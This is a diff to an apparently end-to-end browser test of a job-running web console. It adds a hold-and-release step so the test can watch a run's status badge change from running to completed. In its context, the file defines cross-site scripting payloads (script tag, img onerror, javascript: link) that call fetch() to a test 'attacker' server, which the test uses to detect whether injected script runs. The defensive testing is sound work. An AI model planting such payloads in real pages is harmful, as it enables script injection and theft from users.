@@ -23,8 +23,10 @@ describe('console in a browser', { skip }, () => {
   let xss = ''
   const views: { name: string; path: string; principal: 'a' | 'admin' }[] = []
 
+  let release: () => void = () => undefined
+  let held: Promise<void> = Promise.resolve()
   before(async () => {
-    h = await startHarness(() => ['gpt-4o-mini', xss || 'gpt-4o'])
+    h = await startHarness(() => ['gpt-4o-mini', xss || 'gpt-4o'], () => held)
     const attackerUrl = `${h.attacker.url}/stolen`
     // Every payload names the attacker origin: a request there means something ran.
     xss = `<script>fetch('${attackerUrl}')</script><img src=x onerror="fetch('${attackerUrl}');alert(1)"><a href="javascript:fetch('${attackerUrl}')">x</a>`
@@ -82,10 +84,17 @@ describe('console in a browser', { skip }, () => {
     await heading('Run openai/usage/daily')
     await shot('04-trigger-form')
     await page.getByLabel('date').fill(RUN_DATE)
+    // The provider answers only when the test says so: the run is seen RUNNING, then COMPLETED live.
+    held = new Promise<void>((r) => (release = r))
+    const stream = page.waitForRequest((r) => r.url().includes('/events'), { timeout: 90_000 })
     await page.getByRole('button', { name: 'Start run' }).click()
     await page.waitForURL(/#\/runs\/run_/)
     const url = page.url()
-    // No reload: the status badge flips to completed by itself.
+    await stream
+    await page.locator('[data-testid="run-status"] .badge', { hasText: 'running' }).waitFor({ timeout: 90_000 })
+    await shot('05a-run-running')
+    release()
+    // No reload: the event stream flips the badge to completed.
     await page.locator('[data-testid="run-status"] .badge', { hasText: 'completed' }).waitFor({ timeout: 90_000 })
     assert.equal(page.url(), url)
     const steps = await page.locator('[data-testid="steps"] li').allInnerTexts()
